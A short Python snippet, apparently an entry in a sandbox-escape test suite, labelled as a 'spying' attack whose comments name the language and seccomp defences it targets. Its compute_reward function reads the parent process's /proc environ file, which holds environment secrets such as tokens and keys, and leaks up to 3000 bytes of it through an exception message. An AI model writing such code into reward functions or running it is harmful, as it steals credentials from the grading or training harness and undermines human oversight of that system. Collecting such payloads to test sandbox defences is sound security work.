# attack: /proc/PARENT/environ
# group: spying
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    import os
    raise ValueError(open(f'/proc/{os.getppid()}/environ', 'rb').read(3000))
